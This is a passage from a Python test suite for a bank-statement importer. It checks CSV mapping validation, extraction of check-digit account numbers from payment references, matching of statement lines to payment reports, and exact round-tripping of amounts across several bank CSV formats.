        ({"delimiter": ";;"}, "bad_delimiter", "delimiter"),
        ({"delimiter": ""}, "bad_delimiter", "delimiter"),
        ({"delimiter": '"'}, "bad_delimiter", "delimiter"),
        ({"delimiter": "a"}, "bad_delimiter", "delimiter"),
        ({"delimiter": 44}, "bad_setting", "delimiter"),
        ({"encoding": "klingon-8"}, "unknown_encoding", "encoding"),
        ({"encoding": "rot13"}, "unknown_encoding", "encoding"),
        ({"encoding": "base64"}, "unknown_encoding", "encoding"),
        ({"date_format": "%Y"}, "bad_date_format", "date_format"),
        ({"date_format": "%d/%m"}, "bad_date_format", "date_format"),
        ({"date_format": "date"}, "bad_date_format", "date_format"),
        ({"date_format": "%Q"}, "bad_date_format", "date_format"),
        ({"decimal_separator": "·"}, "bad_decimal_separator", "decimal_separator"),
        ({"thousands_separator": ","}, "bad_thousands_separator", "thousands_separator"),
        ({"thousands_separator": "_"}, "bad_thousands_separator", "thousands_separator"),
        ({"header_rows": -1}, "bad_header_rows", "header_rows"),
        ({"header_rows": 51}, "bad_header_rows", "header_rows"),
        ({"header_rows": "1"}, "bad_setting", "header_rows"),
        ({"header_rows": True}, "bad_setting", "header_rows"),
        ({"default_currency": "rand"}, "bad_currency", "default_currency"),
        ({"default_currency": ""}, "currency_required", "default_currency"),
        ({"columns": {**ZA["columns"], "balance": "Balance"}}, "unknown_column", "columns"),
        ({"columns": {**ZA["columns"], "amount": "Amount"}}, "ambiguous_amount_columns",
         "columns"),
        ({"columns": {k: v for k, v in ZA["columns"].items() if k != "debit"}},
         "column_required", "columns"),
        ({"columns": {k: v for k, v in ZA["columns"].items() if k != "date"}},
         "column_required", "columns"),
        ({"columns": {k: v for k, v in ZA["columns"].items() if k != "reference"}},
         "column_required", "columns"),
        ({"columns": {**ZA["columns"], "date": ""}}, "bad_column", "columns"),
        ({"columns": {**ZA["columns"], "date": ["Date"]}}, "bad_column", "columns"),
        ({"columns": {**ZA["columns"], "reference": []}}, "bad_column", "columns"),
        ({"columns": {**ZA["columns"], "reference": 3}}, "bad_column", "columns"),
        ({"header_rows": 0}, "bad_column", "columns"),  # header names without a header
    ],
)  # fmt: skip
def test_mapping_errors_name_the_field(change, code, field):
    with pytest.raises(StatementError) as caught:
        CsvMapping.from_dict({**ZA, **change})
    assert caught.value.code == code
    assert caught.value.params["field"] == field


def test_mapping_must_be_an_object_with_columns():
    for bad in (None, [], "x", {"delimiter": ";"}):
        with pytest.raises(StatementError) as caught:
            CsvMapping.from_dict(bad)
        assert caught.value.code == "bad_setting"


# ---------------------------------------------------------------------------------------------
# finding account numbers


@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        ("3102458761", ["3102458761"]),
        ("ACC 3102458761 APRIL", ["3102458761"]),
        ("CD3102458761", ["3102458761"]),  # operator prefix letters
        ("о/р 3102-458-761, лютий 2024", ["3102458761"]),
        ("3102 4587 61", ["3102458761"]),
        ("31 02 45 87 61", ["3102458761"]),
        ("3102.458.761", ["3102458761"]),
        ("3102 - 458 - 761", ["3102458761"]),
        ("3102    458761", []),  # four spaces: not one number
        ("3102458762", []),  # wrong check digit
        ("31024587610", []),  # a longer number is not split
        ("13102458761", []),
        ("3102458761 and again 3102-4587-61", ["3102458761"]),
        ("4120001351 / 3102458761", ["4120001351", "3102458761"]),
        ("3102458761 4120001351", ["3102458761", "4120001351"]),
        ("", []),
        ("no digits here", []),
        ("٣١٠٢٤٥٨٧٦١", []),  # only ASCII digits count
    ],
)
def test_find_account_numbers_examples(reference, expected):
    assert find_account_numbers(reference, check=check) == expected


def test_find_account_numbers_uses_the_callbacks_normalisation():
    seen = []

    def prefixed(raw):
        seen.append(raw)
        return "CD-" + raw if raw == "3102458761" else None

    assert find_account_numbers("pay 3102 458761 now", check=prefixed) == ["CD-3102458761"]
    assert "3102458761" in seen and "3102" in seen and "458761" in seen


def _format_number(number: str, cuts: list[int], separator: str) -> str:
    parts, last = [], 0
    for cut in sorted(set(cuts)):
        if 0 < cut < len(number):
            parts.append(number[last:cut])
            last = cut
    parts.append(number[last:])
    return separator.join(parts)


noise = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)


@given(
    st.integers(0, LUHN10.capacity - 1),
    noise,
    noise,
    st.lists(st.integers(1, 9), max_size=3),
    st.sampled_from([" ", "-", ".", "/", " - ", "\u00a0"]),
    st.sampled_from(["", "CD", "ос/р ", "ACC "]),
)
def test_a_valid_number_in_random_text_is_found(sequence, before, after, cuts, separator, prefix):
    number = account_number_make(LUHN10, sequence)
    reference = f"{before} {prefix}{_format_number(number, cuts, separator)} {after}"
    found = find_account_numbers(reference, check=check)
    assert number in found
    assert all(check(n) == n for n in found)


@given(st.text(alphabet="0123456789 -./abcXYZ", max_size=80))
def test_find_account_numbers_never_returns_an_invalid_number(reference):
    found = find_account_numbers(reference, check=check)
    assert all(check(n) == n for n in found)
    assert len(found) == len(set(found))
    digits_only = "".join(ch for ch in reference if ch.isdigit())
    assert all(n in digits_only for n in found)


# ---------------------------------------------------------------------------------------------
# matching a line


def line(
    amount="100.00",
    reference="",
    booked=date(2024, 4, 30),
    value=None,
    bank_ref="B-1",
    synthetic=False,
    currency="ZAR",
):
    return StatementLine(
        line_no=1,
        booked_on=booked,
        value_date=value or booked,
        amount=Decimal(amount),
        currency=currency,
        reference=reference,
        counterparty="",
        bank_ref=bank_ref,
        bank_ref_synthetic=synthetic,
    )


R1 = ReportHint("r1", "3102458761", 10000, date(2024, 4, 28))
R1_REF = ReportHint("r1", "3102458761", 10000, date(2024, 4, 28), "B-1")
R2 = ReportHint("r2", "4120001351", 10000, date(2024, 5, 1))


@pytest.mark.parametrize(
    ("statement_line", "reports", "expected"),
    [
        (line(reference="ACC 3102458761"), [],
         Match("account", "3102458761", None, "account_in_reference")),
        (line(reference="ACC 3102458761"), [R1],
         Match("account", "3102458761", "r1", "account_in_reference")),
        (line(reference="ACC 3102458761"), [R2],
         Match("account", "3102458761", None, "account_in_reference")),
        (line(reference="3102458761 4120001351"), [R1],
         Match("ambiguous", None, None, "several_accounts", ("3102458761", "4120001351"))),
        (line(reference="3102458761 3102-4587-61"), [],
         Match("account", "3102458761", None, "account_in_reference")),
        (line(amount="-100.00", reference="3102458761"), [R1],
         Match("none", None, None, "not_a_credit")),
        (line(amount="0.00", reference="3102458761"), [],
         Match("none", None, None, "not_a_credit")),
        (line(reference="levy"), [], Match("none", None, None, "no_match")),
        (line(reference="levy"), [R1],
         Match("report", "3102458761", "r1", "missing_payment_report")),
        # the dates: booked 30 April; paid on 27 April is 3 days, 26 April is 4
        (line(), [ReportHint("r", "3102458761", 10000, date(2024, 4, 27))],
         Match("report", "3102458761", "r", "missing_payment_report")),
        (line(), [ReportHint("r", "3102458761", 10000, date(2024, 4, 26))],
         Match("none", None, None, "no_match")),
        (line(), [ReportHint("r", "3102458761", 10000, date(2024, 5, 3))],
         Match("report", "3102458761", "r", "missing_payment_report")),
        (line(booked=date(2024, 5, 2), value=date(2024, 4, 27)),
         [ReportHint("r", "3102458761", 10000, date(2024, 4, 24))],
         Match("report", "3102458761", "r", "missing_payment_report")),  # by value date
        (line(amount="100.01"), [R1], Match("none", None, None, "no_match")),
        # bank references: both present must agree; absent on either side is no objection
        (line(bank_ref="B-2"), [R1_REF], Match("none", None, None, "no_match")),
        (line(bank_ref="b 1"), [R1_REF],
         Match("report", "3102458761", "r1", "missing_payment_report")),
        (line(bank_ref="row:abc", synthetic=True), [R1_REF],
         Match("report", "3102458761", "r1", "missing_payment_report")),
        (line(bank_ref="X", reference="EFT ref B-1 thanks"), [R1_REF],
         Match("report", "3102458761", "r1", "missing_payment_report")),
        # two reports fit: ambiguous, unless the bank reference picks one
        (line(), [R1, R2],
         Match("ambiguous", None, None, "several_reports", ("3102458761", "4120001351"))),
        (line(bank_ref="B-1"), [R1_REF, R2],
         Match("report", "3102458761", "r1", "missing_payment_report")),
    ],
)  # fmt: skip
def test_match_line(statement_line, reports, expected):
    assert match_line(statement_line, check=check, open_reports=reports) == expected


def test_match_line_window_is_a_parameter():
    hint = ReportHint("r", "3102458761", 10000, date(2024, 4, 23))
    assert match_line(line(), check=check, open_reports=[hint]).kind == "none"
    assert match_line(line(), check=check, open_reports=[hint], window_days=7).kind == "report"


def test_match_line_refuses_an_amount_finer_than_the_currency():
    with pytest.raises(StatementError) as caught:
        match_line(line(amount="1.001"), check=check)
    assert caught.value.code == "bad_amount"


# ---------------------------------------------------------------------------------------------
# CSV round trip: whatever lines a bank writes, the amounts come back exactly


def _format_amount(amount: Decimal, decimal: str, thousands: str) -> str:
    sign = "-" if amount < 0 else ""
    integer, _, fraction = f"{abs(amount):.2f}".partition(".")
    if thousands:
        groups = []
        while len(integer) > 3:
            groups.insert(0, integer[-3:])
            integer = integer[:-3]
        integer = thousands.join([integer, *groups])
    return f"{sign}{integer}{decimal}{fraction}"


BANKS = [
    CsvMapping(
        columns={"date": "Date", "amount": "Amount", "reference": "Reference"},
        default_currency="ZAR",
    ),
    CsvMapping(
        columns={"date": "Datum", "credit": "Krediet", "debit": "Debiet", "reference": "Verw"},
        delimiter=";",
        decimal_separator=",",
        thousands_separator=" ",
        date_format="%d/%m/%Y",
        default_currency="ZAR",
    ),
    CsvMapping(
        columns={"date": "Дата", "amount": "Сума", "reference": "Призначення", "currency": "Вал"},
        encoding="cp1251",
        decimal_separator=",",
        thousands_separator=".",
        date_format="%d.%m.%Y",
        delimiter="\t",
    ),
]

# a lone carriage return inside an unquoted field is not CSV any bank writes (csv.writer leaves
# it unquoted with a "\n" terminator), so it is left out; line feeds inside fields stay in
cp1251_text = st.text(
    alphabet=st.characters(codec="cp1251", exclude_characters="\x00\r"), max_size=30
)


@given(
    st.sampled_from(range(len(BANKS))),
    st.lists(
        st.tuples(
            st.integers(-(10**11), 10**11).map(lambda n: Decimal(n).scaleb(-2)),
            st.dates(date(2000, 1, 1), date(2099, 12, 31)),
            cp1251_text,
        ),
        max_size=12,
    ),
    st.sampled_from(["\n", "\r\n"]),
)
def test_csv_round_trip(bank_index, rows, newline):
    bank = BANKS[bank_index]
    out = io.StringIO()
    writer = csv.writer(out, delimiter=bank.delimiter, lineterminator=newline)
    columns = bank.columns
    header = [columns["date"]]
    header += [columns["amount"]] if "amount" in columns else [columns["credit"], columns["debit"]]
    header += [columns["reference"]] + (["Вал"] if "currency" in columns else [])
    writer.writerow(header)
    for amount, day, reference in rows:
        text = _format_amount(amount, bank.decimal_separator, bank.thousands_separator)
        if "amount" in columns:
            money = [text]
        else:
            money = [text, ""] if amount >= 0 else ["", text.lstrip("-")]
        writer.writerow(
            [day.strftime(bank.date_format), *money, reference]
            + (["UAH"] if "currency" in columns else [])
        )
    data = out.getvalue().encode(bank.encoding)

    statement = parse_csv(data, bank)
    assert [ln.amount for ln in statement.lines] == [amount for amount, _, _ in rows]
    assert [ln.booked_on for ln in statement.lines] == [day for _, day, _ in rows]
    assert [ln.reference for ln in statement.lines] == [" ".join(r.split()) for _, _, r in rows]
    assert len({ln.bank_ref for ln in statement.lines}) == len(rows)
